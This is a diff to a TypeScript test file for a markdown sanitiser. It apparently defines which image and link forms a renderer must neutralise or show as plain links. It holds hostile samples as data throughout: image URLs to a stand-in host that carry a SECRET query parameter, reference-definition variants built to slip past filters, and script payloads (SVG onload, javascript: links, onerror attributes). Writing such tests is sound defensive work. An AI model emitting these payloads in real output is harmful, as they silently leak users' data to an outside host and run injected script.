@@ -3,7 +3,10 @@ import { inert, linked } from './case.ts';
 const TRACKS = 'a request tells the attacker what the address holds, without a click';
 const PNG = 'https://evil.example/p.png?d=SECRET';
 
-/** Everything that makes a browser load something by itself. */
+/**
+ * Everything that makes a browser load something by itself. References are not read: they stay the text that they are,
+ * whose address is a link that says where it goes.
+ */
 export const loading = [
   inert('image', TRACKS, `Here ![a chart](${PNG}) it is.`, 'Here a chart it is.'),
   inert('image without words', TRACKS, `![](${PNG})`, ''),
@@ -11,20 +14,27 @@ export const loading = [
   inert('image in angle brackets', TRACKS, '![a](<https://evil.example/p q.png>)', 'a'),
   inert('image of a bare host', TRACKS, '![a](//evil.example/p.png)', 'a'),
   inert('image of a data address', 'a document in disguise', '![a](data:image/svg+xml,<svg/onload=alert(1)>)'),
-  inert('image by reference', 'passes filters of inline images', `![a][r]\n\n[r]: ${PNG}`, 'a'),
-  inert('image by collapsed reference', 'passes filters of inline images', `![r][]\n\n[r]: ${PNG}`, 'r'),
-  inert('image by short reference', 'passes filters of inline images', `![r]\n\n[r]: ${PNG}`, 'r'),
-  inert('image by a definition before it', 'passes filters of inline images', `[r]: ${PNG}\n\n![r]`, 'r'),
-  inert('image by a definition in a quote', 'definitions hide anywhere', `> [r]: ${PNG}\n\n![r]`),
-  inert('image by a definition in a list', 'definitions hide anywhere', `- [r]: ${PNG}\n\n![r]`),
+  linked(
+    'image by reference',
+    'passes filters of inline images',
+    `![a][r]\n\n[r]: ${PNG}`,
+    [PNG],
+    `![a][r]\n[r]: ${PNG}`,
+  ),
+  linked('image by collapsed reference', 'passes filters of inline images', `![r][]\n\n[r]: ${PNG}`, [PNG]),
+  linked('image by short reference', 'passes filters of inline images', `![r]\n\n[r]: ${PNG}`, [PNG]),
+  linked('image by a definition before it', 'passes filters of inline images', `[r]: ${PNG}\n\n![r]`, [PNG]),
+  linked('image by a definition in a quote', 'definitions hide anywhere', `> [r]: ${PNG}\n\n![r]`, [PNG]),
+  linked('image by a definition in a list', 'definitions hide anywhere', `- [r]: ${PNG}\n\n![r]`, [PNG]),
   linked('image in a link', TRACKS, `[![logo](${PNG})](https://acme.example/)`, ['https://acme.example/'], 'logo'),
   linked('image in a link by reference', TRACKS, `[![logo][p]][l]\n\n[p]: ${PNG}\n[l]: https://acme.example/`, [
+    PNG,
     'https://acme.example/',
   ]),
   inert('image in emphasis', TRACKS, `***![a](${PNG})***`, 'a'),
   inert('image in a table', TRACKS, `| a |\n|---|\n| ![b](${PNG}) |`),
   inert('image in a heading', TRACKS, `## ![a](${PNG})`),
-  inert('image in a list', TRACKS, `1. ![a](${PNG})\n2. ![b][r]\n\n[r]: ${PNG}`),
+  linked('image in a list', TRACKS, `1. ![a](${PNG})\n2. ![b][r]\n\n[r]: ${PNG}`, [PNG]),
   inert('image in an image', TRACKS, `![![a](${PNG})](${PNG})`),
   inert('link in an image', 'the words of an image are a link', `![a [b](javascript:alert(1))](${PNG})`),
   inert('image with an attribute list', 'some renderers add attributes', `![a](${PNG}){onerror=alert(1) width=1}`),
